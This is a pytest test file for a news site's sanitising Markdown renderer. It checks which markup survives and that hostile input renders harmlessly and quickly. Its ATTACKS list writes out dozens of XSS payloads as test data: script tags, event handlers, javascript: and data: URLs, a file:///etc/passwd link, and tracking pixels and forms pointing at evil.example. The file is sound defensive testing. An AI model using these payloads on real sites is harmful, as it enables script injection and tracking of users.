"""Markdown by organisers: what it can do, and what nobody can do through it."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from detwin.safe_markdown import ATTRIBUTES, TAGS, rendered
from detwin.templatetags.prose import markdown
from news.models.article import LONGEST_BODY

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](/a.png" onerror="alert(1))',
    "![x][p]\n\n[p]: https://evil.example/p.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://example.org "t\\" onmouseover=\\"alert(1))',
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext></p><script>alert(1)</script></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=q><button>x</button></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    '<p style="position:fixed">x</p>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div id=main class=fallback>x</div>",
    "`<script>alert(1)</script>`",
    "```\n</code><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "\x00<script\x00>alert(1)</script>",
    "<<script>alert(1)//<</script>",
]


class Found(HTMLParser):
    """Every element with its attributes, as a browser would see them."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements, self.text = [], ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_leaves_anything_active(attack):
    for tag, attributes in Found(markdown(attack)).elements:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}
        href = attributes.get("href", "https:")
        assert href.startswith(("https:", "mailto:", "/", "#"))
        if tag == "img":
            assert attributes["src"].startswith("/")
            assert not attributes["src"].startswith(("//", "/\\"))


def test_raw_html_is_shown_as_it_was_typed():
    assert "<b>bold</b>" in Found(markdown("so <b>bold</b>")).text


def test_a_foreign_picture_leaves_its_description():
    html = markdown("before ![a crowd](https://evil.example/p.png) after")
    assert html == "<p>before a crowd after</p>"


def test_a_picture_of_our_own_stays():
    html = markdown("![a crowd](/static/img/crowd.jpg)")
    assert Found(html).elements[1] == (
        "img",
        {"src": "/static/img/crowd.jpg", "alt": "a crowd"},
    )


def test_links_of_the_web_and_mail_stay_and_cannot_reach_back():
    html = markdown("[a](https://example.org/x) [b](mailto:a@example.org) [c](/en/)")
    links = [attributes for tag, attributes in Found(html).elements if tag == "a"]
    assert [link["href"] for link in links] == [
        "https://example.org/x",
        "mailto:a@example.org",
        "/en/",
    ]
    assert {link["rel"] for link in links} == {"noopener"}


def test_a_source_that_answers_on_http_only_keeps_its_address():
    html = markdown("[a](http://example.org/)")
    assert Found(html).elements[1][1]["href"] == "http://example.org/"


@pytest.mark.parametrize(
    ("text", "tags"),
    [
        ("# A\n\n## B\n\n### C", ["h2", "h3", "h4"]),
        ("## A\n\n### B", ["h2", "h3"]),
        ("### A\n\n#### B", ["h2", "h3"]),
        ("# A\n\n###### F", ["h2", "h6"]),
        ("A\n=\n\nB\n-", ["h2", "h3"]),
    ],
)
def test_headings_start_one_below_the_pages_own(text, tags):
    assert [tag for tag, _ in Found(markdown(text)).elements] == tags


def test_emphasis_next_to_chinese_punctuation_is_seen():
    assert markdown("**「重要」**的事") == "<p><strong>「重要」</strong>的事</p>"


def test_lists_tables_and_quotes_are_kept():
    html = markdown("1. a\n2. b\n\n> q\n\n| x | y |\n|---|---|\n| 1 | 2 |")
    tags = {tag for tag, _ in Found(html).elements}
    assert {"ol", "li", "blockquote", "table", "thead", "tbody", "th", "td"} <= tags


def drawn(number, caption):
    return f"[picture {number}: {caption}]"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![](picture:12)", "[picture 12: ]"),
        ("a\n![b > c](picture:12)\nd", "<p>a</p>\n[picture 12: b > c]<p>d</p>"),
        ("a ![b](picture:12) c", "<p>a  c</p>"),
        ("- ![b](picture:12)", "<ul>\n<li></li>\n</ul>"),
        ("![b](picture:x)", "<p>b</p>"),
        ("[b](picture:12)", '<p><a rel="noopener">b</a></p>'),
        ("![b](/a.png)", '<p><img alt="b" src="/a.png"></p>'),
    ],
)
def test_a_picture_on_a_line_of_its_own_is_drawn(text, expected):
    assert rendered(text, drawn) == expected


def test_pictures_are_left_out_where_nobody_draws_them():
    assert markdown("a\n\n![b](picture:12)\n\nc") == "<p>a</p>\n<p>c</p>"


SLOW = {
    "brackets": "[",
    "closed": "[a](",
    "pictures": "![",
    "rules": "a\n***\n",
    "headings": "a\n=\n",
    "hashes": "# a\n",
    "quotes": "> ",
    "quoted headings": "> # a\n",
    "cells": "|a",
    "stars": "*_",
    "code": "`a",
}


@pytest.mark.parametrize("name", SLOW)
def test_the_longest_hostile_text_takes_seconds_and_not_minutes(name):
    text = SLOW[name] * (LONGEST_BODY // len(SLOW[name]))
    began = time.process_time()
    assert rendered(text)
    assert time.process_time() - began < 5


def test_nested_brackets_are_shown_as_typed_and_ordinary_ones_work():
    nested = "[" * 60 + "a" + "]" * 60
    assert markdown(nested) == f"<p>{nested}</p>"
    text = "[a](https://example.org/x_(y)) [1] (b [c"
    assert 'href="https://example.org/x_(y)"' in markdown(text)


@pytest.mark.parametrize("nothing", ["", None, "   \n"])
def test_nothing_gives_nothing(nothing):
    assert markdown(nothing) == ""
